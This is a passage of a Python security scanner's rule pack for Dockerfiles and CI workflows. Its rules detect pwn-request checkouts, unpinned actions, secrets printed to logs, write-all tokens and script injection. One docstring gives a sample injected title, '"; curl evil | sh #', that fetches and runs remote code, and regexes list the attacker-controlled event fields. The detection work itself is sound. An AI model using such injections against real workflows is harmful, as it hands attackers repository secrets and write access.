_PRIVILEGED_TRIGGERS = frozenset({"pull_request_target", "workflow_run", "issue_comment"})


def _text_of(node: Node | None) -> str:
    return node.value if isinstance(node, ScalarNode) and isinstance(node.value, str) else ""


def _get(node: Node | None, key: str) -> Node | None:
    if isinstance(node, MappingNode):
        for k, v in node.value:
            if isinstance(k, ScalarNode) and k.value == key:
                return v
    return None


def _node_lines(lines: list[str], node: ScalarNode) -> tuple[tuple[int, str], ...]:
    """The physical lines a scalar occupies (block scalars: its content lines), as written."""
    start, end = node.start_mark.line, node.end_mark.line
    if node.style in ("|", ">"):
        stop = end if node.end_mark.column == 0 else end + 1
        return tuple((i + 1, lines[i]) for i in range(start + 1, min(stop, len(lines))))
    if start >= len(lines):
        return ()
    if start == end:
        return ((start + 1, lines[start][node.start_mark.column : node.end_mark.column]),)
    result = [(start + 1, lines[start][node.start_mark.column :])]
    result.extend((i + 1, lines[i]) for i in range(start + 1, min(end, len(lines))))
    if end < len(lines):
        result.append((end + 1, lines[end][: node.end_mark.column]))
    return tuple(result)


def _secret_env(env: Node | None) -> set[str]:
    if not isinstance(env, MappingNode):
        return set()
    return {
        k.value
        for k, v in env.value
        if isinstance(k, ScalarNode) and _secret_expression(_text_of(v))
    }


class _WorkflowBuilder:
    def __init__(self, lines: list[str]) -> None:
        self.lines = lines
        self.uses: list[tuple[int, str]] = []
        self.permissions: list[tuple[int, str]] = []
        self.scripts: list[Script] = []
        self.js_scripts: list[Script] = []
        self.head_checkouts: list[HeadCheckout] = []
        self.job = 0

    def uses_of(self, node: Node | None) -> str:
        text = _text_of(node)
        if text and node is not None:
            self.uses.append((node.start_mark.line + 1, text))
        return text

    def permission(self, node: Node | None) -> None:
        if isinstance(node, ScalarNode):
            self.permissions.append((node.start_mark.line + 1, _text_of(node)))

    def steps(self, steps: Node | None, env: set[str], guarded: bool) -> None:
        if not isinstance(steps, SequenceNode):
            return
        items = [s for s in steps.value if isinstance(s, MappingNode)]
        checkouts: list[tuple[int, int]] = []  # (step index, line)
        runs_code: list[bool] = []
        for index, step in enumerate(items):
            scope = env | _secret_env(_get(step, "env"))
            uses = self.uses_of(_get(step, "uses"))
            inputs = _get(step, "with")
            run = _get(step, "run")
            step_guarded = guarded or bool(_SAME_REPO_GUARD.search(_text_of(_get(step, "if"))))
            if isinstance(run, ScalarNode):
                script = Script(_node_lines(self.lines, run), frozenset(scope), self.job)
                self.scripts.append(script)
                runs_code.append(bool(_RUNS_CODE.search(run.value)))
                if not step_guarded:
                    for number, text in script.lines:
                        if _RUN_HEAD_CHECKOUT.search(text):
                            checkouts.append((index, number))
            else:
                runs_code.append(bool(uses) and not uses.lower().startswith("actions/checkout"))
            if uses.lower().startswith("actions/github-script"):
                script_node = _get(inputs, "script")
                if isinstance(script_node, ScalarNode):
                    self.js_scripts.append(
                        Script(_node_lines(self.lines, script_node), frozenset(scope), self.job)
                    )
            if uses.lower().startswith("actions/checkout") and not step_guarded:
                for key in ("ref", "repository"):
                    value = _get(inputs, key)
                    if _PR_HEAD.search(_text_of(value)) and value is not None:
                        checkouts.append((index, value.start_mark.line + 1))
                        break
        for index, line in checkouts:
            self.head_checkouts.append(HeadCheckout(line, any(runs_code[index + 1 :])))

    def build(self, root: MappingNode) -> Workflow:
        on = _get(root, "on")
        events: list[Node] = []
        if isinstance(on, ScalarNode):
            events = [on]
        elif isinstance(on, SequenceNode):
            events = on.value
        elif isinstance(on, MappingNode):
            events = [k for k, _ in on.value]
        triggers = tuple((_text_of(n), n.start_mark.line + 1) for n in events)
        self.permission(_get(root, "permissions"))
        env = _secret_env(_get(root, "env"))
        jobs = _get(root, "jobs")
        if isinstance(jobs, MappingNode):
            for _, job in jobs.value:
                self.permission(_get(job, "permissions"))
                self.uses_of(_get(job, "uses"))
                guarded = bool(_SAME_REPO_GUARD.search(_text_of(_get(job, "if"))))
                self.steps(_get(job, "steps"), env | _secret_env(_get(job, "env")), guarded)
                self.job += 1
        self.steps(_get(_get(root, "runs"), "steps"), env, False)
        return Workflow(
            triggers,
            tuple(self.uses),
            tuple(self.permissions),
            tuple(self.scripts),
            tuple(self.js_scripts),
            tuple(self.head_checkouts),
        )


def _compose(text: str) -> Node | None:
    try:
        return yaml.compose(text, Loader=_LOADER)
    except (yaml.YAMLError, RecursionError, ValueError):
        return None


_USES_LINE = re.compile(r"""^\s*(?:-\s+)?uses\s*:\s*["']?([^\s"'#]+)""")
_PERMISSIONS_LINE = re.compile(r"""^\s*permissions\s*:\s*["']?([\w-]+)["']?\s*(?:#.*)?$""")
_RUN_LINE = re.compile(r"^(\s*(?:-\s+)?)run\s*:(.*)$")
_SECRET_ENV_LINE = re.compile(
    r"""^\s*([A-Za-z_][\w-]*)\s*:\s*["']?\$\{\{[^}]*\b(?:secrets\.|github\.token)"""
)
_HEAD_REF_LINE = re.compile(r"^\s*(?:ref|repository)\s*:.*(?:" + _PR_HEAD.pattern + ")")
_TRIGGER_WORD = re.compile(r"\b(pull_request_target|workflow_run|issue_comment)\b")


def _indent(line: str) -> int:
    return len(line) - len(line.lstrip(" "))


def _line_workflow(lines: list[str]) -> Workflow:
    """What the lines alone show, for YAML that does not parse."""
    uses: list[tuple[int, str]] = []
    permissions: list[tuple[int, str]] = []
    scripts: list[tuple[tuple[int, str], ...]] = []
    checkouts: list[HeadCheckout] = []
    secret_env: set[str] = set()
    triggers: list[tuple[str, int]] = []
    for i, line in enumerate(lines):
        code = line.split(" #", 1)[0]
        if line.lstrip().startswith("#"):
            continue
        triggers.extend((word, i + 1) for word in _TRIGGER_WORD.findall(code))
        if match := _USES_LINE.match(line):
            uses.append((i + 1, match.group(1)))
        if match := _PERMISSIONS_LINE.match(line):
            permissions.append((i + 1, match.group(1)))
        if match := _SECRET_ENV_LINE.match(line):
            secret_env.add(match.group(1))
        if _HEAD_REF_LINE.match(line):
            checkouts.append(HeadCheckout(i + 1, False))
        if match := _RUN_LINE.match(line):
            rest = match.group(2).strip()
            if rest[:1] in ("|", ">"):
                key_column = len(match.group(1))
                body: list[tuple[int, str]] = []
                for j in range(i + 1, len(lines)):
                    if lines[j].strip() and _indent(lines[j]) <= key_column:
                        break
                    body.append((j + 1, lines[j]))
                scripts.append(tuple(body))
            elif rest:
                scripts.append(((i + 1, rest),))
    env = frozenset(secret_env)
    for body in scripts:
        checkouts.extend(HeadCheckout(n, False) for n, t in body if _RUN_HEAD_CHECKOUT.search(t))
    return Workflow(
        tuple(triggers),
        tuple(uses),
        tuple(permissions),
        # which job a script runs in is unknown here: no script shares files with another
        tuple(Script(body, env, index) for index, body in enumerate(scripts)),
        (),
        tuple(checkouts),
    )


@lru_cache(maxsize=64)
def workflow(text: str) -> Workflow:
    """A workflow or action file's shapes that the rules read."""
    lines = text.splitlines()
    root = _compose(text)
    if isinstance(root, MappingNode) and (_get(root, "jobs") or _get(root, "runs")):
        return _WorkflowBuilder(lines).build(root)
    return _line_workflow(lines)


_GITLAB_SCRIPT_KEYS = frozenset({"script", "before_script", "after_script"})


@lru_cache(maxsize=16)
def gitlab_scripts(text: str) -> tuple[tuple[tuple[int, str], ...], ...]:
    """The script lines of a `.gitlab-ci.yml` (every line when it does not parse)."""
    lines = text.splitlines()
    root = _compose(text)
    if root is None:
        return (tuple(enumerate(lines, start=1)),)
    scripts: list[tuple[tuple[int, str], ...]] = []
    stack: list[tuple[Node, bool]] = [(root, False)]
    seen: set[int] = set()
    while stack:
        node, in_script = stack.pop()
        if id(node) in seen:
            continue
        seen.add(id(node))
        if isinstance(node, ScalarNode):
            if in_script and isinstance(node.value, str):
                scripts.append(_node_lines(lines, node))
        elif isinstance(node, SequenceNode):
            stack.extend((child, in_script) for child in node.value)
        elif isinstance(node, MappingNode):
            stack.extend((v, _text_of(k) in _GITLAB_SCRIPT_KEYS) for k, v in node.value)
    return tuple(scripts)


def _workflow_of(file: FileUnderReview) -> Workflow | None:
    if not file.text or file_kind(file.path) not in ("workflow", "action"):
        return None
    return workflow(file.text)


def check_pull_request_target_checkout(
    file: FileUnderReview, context: ReviewContext
) -> Iterable[Hit]:
    """A privileged workflow (`pull_request_target`, `workflow_run`, `issue_comment`) that checks
    out the pull request's head: the fork's code then runs with the base repository's secrets and
    a write-scoped token ("pwn request"). Critical when a later step builds or runs anything.
    Jobs guarded by a same-repository check are exempt; `pull_request` workflows are fine. A change
    that turns an existing head checkout privileged (by adding the trigger) is reported at the
    checkout."""
    parsed = _workflow_of(file)
    if parsed is None:
        return
    privileged = [(event, line) for event, line in parsed.triggers if event in _PRIVILEGED_TRIGGERS]
    if not privileged:
        return
    trigger = privileged[0][0]
    newly_privileged = not file.is_new and any(file.is_changed(line) for _, line in privileged)
    for checkout in parsed.head_checkouts:
        then = "and later steps run it" if checkout.runs_code else "into a privileged job"
        yield Hit(
            checkout.line,
            severity=Severity.CRITICAL if checkout.runs_code else Severity.HIGH,
            rationale=f"This `{trigger}` workflow checks out the pull request's head {then}: untrusted fork code gets the repository's secrets and a write-scoped GITHUB_TOKEN.",
            anywhere=newly_privileged,
        )


_SHA = re.compile(r"^[0-9a-fA-F]{40}$")
# The SLSA generator verifies its own ref and only supports semver tags, never SHAs (its docs).
_TAG_ONLY = re.compile(r"^slsa-framework/slsa-github-generator/.*@v\d+\.\d+\.\d+$", re.I)
_ACTION = re.compile(r"^([\w.-]+)/[\w.-]+(?:/[^@\s]*)?(?:@(\S+))?$")
_FIRST_PARTY = frozenset({"actions", "github"})


def check_unpinned_action(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
    """A third-party action (or reusable workflow) referenced by a tag or branch instead of a full
    commit SHA: whoever controls the repository can move the ref and run new code with this
    workflow's secrets (the tj-actions/changed-files compromise). GitHub's own `actions/*` and
    `github/*` are exempt, as are local actions, digest-pinned `docker://` images and the SLSA
    generator's reusable workflows, which must be referenced by a semver tag."""
    parsed = _workflow_of(file)
    if parsed is None:
        return
    for line, value in parsed.uses:
        value = value.strip().strip("\"'")
        if not file.is_changed(line) or value.startswith(("./", ".\\")) or "${{" in value:
            continue
        if value.startswith("docker://"):
            if "@sha256:" not in value:
                yield Hit(
                    line,
                    rationale=f"`{value}` is a container image referenced by a mutable tag: a re-pushed tag runs new code with this workflow's secrets.",
                    suggested_fix="Pin the image by digest: `docker://image@sha256:<digest>`.",
                )
            continue
        match = _ACTION.match(value)
        if match is None or match.group(1).lower() in _FIRST_PARTY or _TAG_ONLY.match(value):
            continue
        ref = match.group(2)
        if ref and _SHA.match(ref):
            continue
        what = f"`@{ref}`" if ref else "no ref"
        yield Hit(
            line,
            rationale=f"`{value}` is a third-party action pinned to {what}, not a commit SHA: whoever controls that repository can move the ref and run new code with this workflow's secrets.",
        )


_ECHO_COMMANDS = frozenset({"echo", "printf", "write-host", "write-output", "print"})
_PRINTING_FILTERS = frozenset(
    {"base64", "xxd", "od", "hexdump", "rev", "tee", "cat", "tr", "sed", "awk", "cut", "head"}
    | {"tail", "fold", "sort", "grep", "egrep", "uniq"}
)
_REDIRECT = re.compile(r"(\d?)&?>{1,2}\s*(&\d|[^\s;|&]*)")
_QUOTED = re.compile(r"\"(?:[^\"\\]|\\.)*\"|'[^']*'")
_TO_LOG = re.compile(r"^(?:&[12]|/dev/std(?:out|err))$")
_MAY_ECHO = re.compile(r"\b(?:echo|printf|print|printenv|env|write-host|write-output)\b", re.I)


def _to_log(text: str, stages: list[tuple[int, int]], filters: frozenset[str]) -> bool:
    """Whether a pipeline's output reaches the job log: no redirect to a file, and every later
    stage only reshapes and prints what it reads."""
    for start, end in stages[1:]:
        if _program(command_of(words_of(text[start:end]))).lower() not in filters:
            return False
    for start, end in stages:
        stage = _QUOTED.sub("", text[start:end])
        for redirect in _REDIRECT.finditer(stage):
            if redirect.group(1) == "2":
                continue
            if not _TO_LOG.match(redirect.group(2)):
                return False
    return True


def _echoed_secret(text: str, start: int, end: int, env: frozenset[str]) -> str | None:
    stage = text[start:end]
    if "::add-mask::" in stage:
        return None
    expression = _secret_expression(stage)
    if expression:
        return expression.strip("${} ")
    for name in env:
        if re.search(
            # `${NAME:+set}` expands to the word, not the value: a presence check, not a leak
            rf"\$(?:\{{{re.escape(name)}\b(?!:?\+)|{re.escape(name)}\b|env:{re.escape(name)}\b)",
            stage,
            re.I,
        ):
            return name
    return None


def _log_leaks(command: Text, env: frozenset[str]) -> Iterator[tuple[int, str]]:
    text = command.text
    if not _MAY_ECHO.search(text):
        return
    for stages in pipelines(text):
        start, end = stages[0]
        words = command_of(words_of(text[start:end]))
        program = _program(words).lower()
        if program in _ECHO_COMMANDS:
            secret = _echoed_secret(text, start, end, env)
            if secret and _to_log(text, stages, _PRINTING_FILTERS):
                yield command.line_at(start), f"`{program}` prints `{secret}`"
        elif env and (
            (program == "printenv" and (len(words) == 1 or env.intersection(words[1:])))
            or (program == "env" and all(w.startswith("-") for w in words[1:]))
        ):
            if _to_log(text, stages, _PRINTING_FILTERS):
                yield (
                    command.line_at(start),
                    f"`{' '.join(words)[:40]}` dumps the environment holding `{sorted(env)[0]}`",
                )


# Files written from a secret (`echo "$KUBECONFIG_DATA" | base64 -d > "$RUNNER_TEMP/kubeconfig"`)
# and printed later in the same job (`cat "$RUNNER_TEMP/kubeconfig"`): the file holds the decoded
# secret, which log masking (of the exact secret string) does not hide.
_EXPR_WORD = re.compile(r"""(?:\$\{\{[^}]*\}\}|[^\s"'`]|"(?:[^"\\]|\\.)*"?|'[^']*'?|`[^`]*`?)+""")
_RUNNER_TEMP_EXPR = re.compile(r"\$\{\{\s*runner\.temp\s*\}\}")
_WORKSPACE_EXPR = re.compile(r"\$\{\{\s*github\.workspace\s*\}\}")
_BRACED_VAR = re.compile(r"\$\{([A-Za-z_]\w*)\}")
_FILE_REDIRECT = re.compile(r"^(?:1|&)?>>?\|?(.*)$")
_NOT_A_FILE = re.compile(r"^(?:&\d|/dev/(?:null|std(?:out|err)|tty)|-)?$")
_OUTPUT_FLAGS = frozenset({"-o", "--output", "-out", "--out", "--output-file", "--out-file"})
_FILE_PRINTERS = frozenset(
    {"cat", "head", "tail", "less", "more", "bat", "batcat", "type", "tac", "nl", "strings"}
    | {"xxd", "od", "hexdump", "base64", "get-content", "gc"}
)
# commands that pass on (a transformation of) what they read
_PASSES_DATA = _PRINTING_FILTERS | frozenset(
    {"base64", "jq", "yq", "envsubst", "openssl", "gpg", "gunzip", "gzip", "zcat", "xz", "unxz"}
    | {"iconv", "dd", "install", "sops", "age", "column", "perl", "python", "python3", "node"}
)
# commands whose secret is the credential of a request, not the content they write
_AUTH_ONLY = frozenset({"curl", "wget", "http", "https", "xh", "gh", "aria2c"})
_HEREDOC_START = re.compile(r"(?<!<)<<-?\s*([\"']?)([A-Za-z_][\w.-]*)\1")
_SUBSTITUTED_READ = re.compile(
    r"\$\(\s*(?:(?:cat|head|tail|base64|tac)\b|<)([^)]*)\)|`cat\s([^`]*)`"
)


def _file_key(word: str) -> str:
    """A file path as written (quotes, `${VAR}` braces, `${{ runner.temp }}`, `./` dropped), so
    the same file is recognised however a later line spells it."""
    word = _RUNNER_TEMP_EXPR.sub("$RUNNER_TEMP", word)
    word = _WORKSPACE_EXPR.sub("$GITHUB_WORKSPACE", word)
    word = _BRACED_VAR.sub(r"$\1", _unquote(word))
    if word.startswith("~/"):
        word = "$HOME/" + word[2:]
    while word.startswith("./"):
        word = word[2:]
    return word


@dataclass
class _Stage:
    program: str
    args: list[str]  # file keys of the words after the program, redirects and outputs removed
    writes: list[str]  # file keys written by `>`, `>>`, `tee`, `-o` / `--output`


def _stage(text: str) -> _Stage:
    words = _EXPR_WORD.findall(text)
    command = command_of(words)
    program = _program(command).lower()
    args: list[str] = []
    writes: list[str] = []
    index = 1
    while index < len(command):
        word = command[index]
        index += 1
        redirect = _FILE_REDIRECT.match(word)
        if redirect:
            target = redirect.group(1)
            if not target and index < len(command):
                target = command[index]
                index += 1
            if not _NOT_A_FILE.match(target):
                writes.append(_file_key(target))
            continue
        name, equals, value = word.partition("=")
        if name in _OUTPUT_FLAGS:
            if not equals and index < len(command):
                value = command[index]
                index += 1
            if value and not _NOT_A_FILE.match(value):
                writes.append(_file_key(value))
            continue
        if word.startswith("2>") or word.startswith("<"):
            continue
        if program == "tee" and not word.startswith("-"):
            writes.append(_file_key(word))
            continue
        args.append(_file_key(word))
    return _Stage(program, args, writes)


def _secret_file_prints(
    scripts: Iterable[Script],
) -> Iterator[tuple[int, str, str, int]]:
    """(line, print command, file, line it was written) for each print of a file that an earlier
    line of the same job wrote from a secret."""
    tracked: dict[str, tuple[str, int]] = {}  # file key -> (what it holds, line written)
    job: int | None = None
    for script in scripts:
        if script.job != job:
            job, tracked = script.job, {}
        commands = shell_commands(script.lines)
        # an open heredoc: its delimiter, the files it writes, its line, the secret in its body
        heredoc: tuple[str, list[str], int, str | None] | None = None
        for command in commands:
            text = command.text
            if heredoc is not None:
                delimiter, targets, line, secret = heredoc
                if text.strip() == delimiter:
                    if secret:
                        tracked.update((target, (secret, line)) for target in targets)
                    heredoc = None
                else:
                    found = _echoed_secret(text, 0, len(text), script.secret_env)
                    heredoc = (delimiter, targets, line, secret or found)
                continue
            for stages in pipelines(text):
                parsed = [_stage(text[start:end]) for start, end in stages]
                for index, ((start, end), stage) in enumerate(zip(stages, parsed, strict=True)):
                    if stage.program in _AUTH_ONLY:
                        continue
                    found = _echoed_secret(text, start, end, script.secret_env)
                    if found is None:
                        read = next((arg for arg in stage.args if arg in tracked), None)
                        found = tracked[read][0] if read else None
                    if found is None:
                        continue
                    # the secret reaches a file written by its own stage, or by later stages that
                    # only pass data on (`| base64 -d > f`), not by a command that consumes it
                    # (`| kubectl apply -f - > applied.txt`)
                    writes = list(stage.writes)
                    for later in parsed[index + 1 :]:
                        if later.program not in _PASSES_DATA:
                            break
                        writes.extend(later.writes)
                    if writes:
                        line = command.line_at(start)
                        tracked.update((target, (found, line)) for target in writes)
                    break
                line = command.line_at(stages[0][0])
                first = parsed[0]
                start, end = stages[0]
                if first.program in _FILE_PRINTERS and not first.writes:
                    printed = next((arg for arg in first.args if arg in tracked), None)
                elif first.program in _ECHO_COMMANDS:
                    printed = None
                    for read in _SUBSTITUTED_READ.finditer(text, start, end):
                        inner = read.group(1) if read.group(1) is not None else read.group(2)
                        printed = next(
                            (
                                key
                                for word in _EXPR_WORD.findall(inner)
                                if (key := _file_key(word)) in tracked
                            ),
                            None,
                        )
                        if printed:
                            break
                else:
                    printed = None
                if printed and _to_log(text, stages, _PRINTING_FILTERS):
                    shown = " ".join(text[start:end].split())
                    yield line, shown[:60], printed, tracked[printed][1]
            heredoc_start = _HEREDOC_START.search(text)
            if heredoc_start:
                first_pipeline = next(iter(pipelines(text)), [])
                targets = [t for s, e in first_pipeline for t in _stage(text[s:e]).writes]
                secret = _echoed_secret(text, 0, len(text), script.secret_env)
                heredoc = (heredoc_start.group(2), targets, command.line_at(0), secret)


def check_secret_echoed(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
    """A `run:` step that prints a secret to the job log: `echo ${{ secrets.X }}`, `echo "$TOKEN"`
    where the step's env maps TOKEN from a secret (or from a credential step output such as
    `steps.app-token.outputs.token`), `printenv`/`env` with secrets in scope, or a
    secret piped through `base64`. GitHub masks only the exact secret string, so transformed or
    partial values are readable by anyone who can see the logs. Writing to a file, to
    `$GITHUB_ENV`, or into a command's stdin (`| docker login --password-stdin`), `::add-mask::`,
    and presence checks (`${TOKEN:+set}`, which expand to the word) are fine.

    Also a file printed to the log (`cat`, `head`, `tail`, `less`, `bat`, `type`, ...,
    `echo "$(cat f)"`) after an earlier line of the same job (its step or an earlier one) wrote it
    from a secret: `>`, `>>`, `tee`, `-o` / `--output`, or a heredoc body, fed by a stage that
    references a secret (or reads such a file) through stages that only pass data on, as in
    `echo "$KUBECONFIG_DATA" | base64 -d > "$RUNNER_TEMP/kubeconfig"`. Using the file (`cat f |
    kubectl apply -f -`, `cat f > other`, `chmod`, `export KUBECONFIG=f`) is fine, and so is a
    download authenticated with a secret (`curl -H "Authorization: ..." -o f`)."""
    parsed = _workflow_of(file)
    if parsed is None:
        return
    seen: set[int] = set()
    for script in parsed.scripts:
        for command in shell_commands(script.lines):
            for line, what in _log_leaks(command, script.secret_env):
                if line not in seen and file.is_changed(line):
                    seen.add(line)
                    yield Hit(
                        line,
                        rationale=f"{what} to the job log: log masking only hides the exact secret string, so encoded or partial values are readable by anyone with log access.",
                    )
    for line, shown, printed, written in _secret_file_prints(parsed.scripts):
        if line not in seen and file.is_changed(line):
            seen.add(line)
            yield Hit(
                line,
                rationale=f"`{shown}` prints `{printed}`, which line {written} wrote from a secret, to the job log: log masking only hides the exact secret string, so the decoded file (a kubeconfig, a key, a credentials file) is readable by anyone with log access.",
                suggested_fix="Do not print files written from secrets: check them without showing their content (`test -s file`, `kubectl config current-context`, `jq 'keys'`), and keep them out of the log.",
            )


def check_write_all_permissions(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
    """`permissions: write-all` at workflow or job level: the GITHUB_TOKEN can push code, publish
    releases and packages and change settings, so any compromised step (a dependency, an action)
    gets all of it. `read-all` and scoped permissions are fine."""
    parsed = _workflow_of(file)
    if parsed is None:
        return
    for line, value in parsed.permissions:
        if value.strip().lower() == "write-all" and file.is_changed(line):
            yield Hit(line)


_UNTRUSTED = re.compile(
    r"\$\{\{[^}]*?\b(github\.(?:head_ref\b|event\.(?:"
    r"(?:issue|pull_request|discussion)\.(?:title|body)\b"
    r"|(?:comment|review|review_comment|discussion_comment)\.body\b"
    r"|pull_request\.head\.(?:ref|label|repo\.default_branch)\b"
    r"|pages\b[^}]*?\.page_name\b"
    r"|(?:commits\b[^}]*?|head_commit)\.(?:message|author\.(?:email|name))\b"
    r"|workflow_run\.(?:head_branch|head_commit\.message|display_title)\b"
    r")))"
)
# A whole event object serialized into the script: `toJSON(github.event.issue)` carries the
# title and body with it, so a quote in either breaks out of whatever quoting the script uses.
_UNTRUSTED_JSON = re.compile(
    r"\$\{\{[^}]*?\b(to[Jj][Ss][Oo][Nn]\(\s*github(?:\.event(?:\.(?:"
    r"issue|pull_request(?:\.head)?|comment|review|review_comment|discussion|discussion_comment"
    r"|head_commit|commits|workflow_run|pages"
    r"))?)?\s*\))"
)


def _untrusted_expression(text: str) -> str | None:
    match = _UNTRUSTED.search(text) or _UNTRUSTED_JSON.search(text)
    return match.group(1) if match else None


def check_script_injection(file: FileUnderReview, context: ReviewContext) -> Iterable[Hit]:
    """An attacker-controlled event field (issue or PR title/body, comment body, branch name,
    commit message) expanded with `${{ }}` inside a `run:` script or a github-script `script:`:
    the text is pasted into the script before it runs, so a title like `"; curl evil | sh #`
    executes with the job's token and secrets. A whole event object serialized with
    `toJSON(github.event.issue)` (or `toJSON(github.event)`) carries those fields too. Passing it
    through `env:` and reading `"$TITLE"` is the fix and does not match."""
    parsed = _workflow_of(file)
    if parsed is None:
        return
    for script in (*parsed.scripts, *parsed.js_scripts):
        for line, text in script.lines:
            what = _untrusted_expression(text)
            if what and file.is_changed(line) and not text.lstrip().startswith("#"):
                yield Hit(
                    line,
                    rationale=f"`${{{{ {what} }}}}` is attacker-controlled text pasted into the script before it runs: a crafted value executes commands with the job's token and secrets.",
                )


def _matches(path: str) -> bool:
    return file_kind(path) is not None


PACK = RulePack(
    name="docker_ci",
    matches=_matches,
    checks=(
        (
            Rule(
                id="docker_ci.secret-in-env",
                category="secret-in-dockerfile",
                severity=Severity.HIGH,
                rationale="A credential in `ENV` or `ARG` is stored in the image (config, layers or history): anyone who can pull the image can read it.",
                suggested_fix="Pass it at build time with a BuildKit secret (`RUN --mount=type=secret,id=npm_token ...`, `docker build --secret id=npm_token,env=NPM_TOKEN`) and at run time from the orchestrator's secret store; rotate the exposed value.",
            ),
            check_secret_in_env,
        ),
        (
            Rule(
                id="docker_ci.unpinned-base-image",
                category="unpinned-image",
                severity=Severity.MEDIUM,
                rationale="A base image without a tag (or tagged `latest`) can change under the build: builds are not reproducible and upstream changes ship unreviewed.",
                suggested_fix="Pin a specific version tag (`FROM python:3.12-slim`), ideally with its digest (`FROM python:3.12-slim@sha256:...`) kept current by Renovate or Dependabot.",
            ),
            check_unpinned_base_image,
        ),
        (
            Rule(
                id="docker_ci.runs-as-root",
                category="run-as-root",
                severity=Severity.MEDIUM,
                rationale="The container runs as root: a compromised process owns the container and has an easier path to the host.",
                suggested_fix="Create an unprivileged user in the final stage and switch to it: `RUN useradd --system --uid 10001 app` then `USER 10001` (or use the image's own user, e.g. `USER node`).",
            ),
            check_runs_as_root,
        ),
        (
            Rule(
                id="docker_ci.curl-pipe-shell",
                category="curl-pipe-shell",
                severity=Severity.HIGH,
                rationale="A downloaded script is executed without verification: whatever the server (or anyone in between) returns runs with the build's privileges and secrets.",
                suggested_fix='Download to a file, verify a pinned checksum or signature (`echo "<sha256>  install.sh" | sha256sum -c -`), then run it; or install a pinned version from a package manager.',
            ),
            check_curl_pipe_shell,
        ),
        (
            Rule(
                id="docker_ci.pull-request-target-checkout",
                category="pull-request-target-checkout",
                severity=Severity.CRITICAL,
                rationale="A privileged workflow checks out untrusted pull request code: it runs with the repository's secrets and a write-scoped token.",
                suggested_fix="Build and test PR code in a `pull_request` workflow (no secrets); if privileged follow-up is needed, pass artifacts to a separate `workflow_run` job that never executes them, or restrict the job to same-repository PRs.",
            ),
            check_pull_request_target_checkout,
        ),
        (
            Rule(
                id="docker_ci.unpinned-action",
                category="unpinned-action",
                severity=Severity.MEDIUM,
                rationale="A third-party action referenced by a tag or branch can be changed by its owner (or an attacker who takes over the repository) and run new code with this workflow's secrets.",
                suggested_fix="Pin the action to a full commit SHA with the version in a comment (`uses: owner/action@<40-hex-sha> # v4.1.0`) and let Dependabot or Renovate update it.",
            ),
            check_unpinned_action,
        ),
        (
            Rule(
                id="docker_ci.secret-echoed-in-logs",
                category="secret-in-logs",
                severity=Severity.HIGH,
                rationale="A step prints a secret to the job log: masking only hides the exact string, so encoded or partial values are readable by anyone with log access.",
                suggested_fix='Do not print secrets: pass them through `env:` to the command that needs them (or its stdin, e.g. `--password-stdin`), and `echo "::add-mask::$VALUE"` any derived value before it can appear.',
            ),
            check_secret_echoed,
        ),
        (
            Rule(
                id="docker_ci.permissions-write-all",
                category="excessive-permissions",
                severity=Severity.HIGH,
                rationale="`permissions: write-all` gives the GITHUB_TOKEN write access to code, releases, packages and settings: any compromised step gets all of it.",
                suggested_fix="Declare only what the job needs, e.g. `permissions: {contents: read}` at the top and `pull-requests: write` on the one job that comments.",
            ),
            check_write_all_permissions,
        ),
        (
            Rule(
                id="docker_ci.script-injection",
                category="script-injection",
                severity=Severity.HIGH,
                rationale="Attacker-controlled event text is expanded into a script before it runs: a crafted title, body or branch name executes commands with the job's token and secrets.",
                suggested_fix='Pass the value through an environment variable and quote it: `env: {TITLE: ${{ github.event.issue.title }}}` then `echo "$TITLE"`.',
            ),
            check_script_injection,
        ),
    ),
)
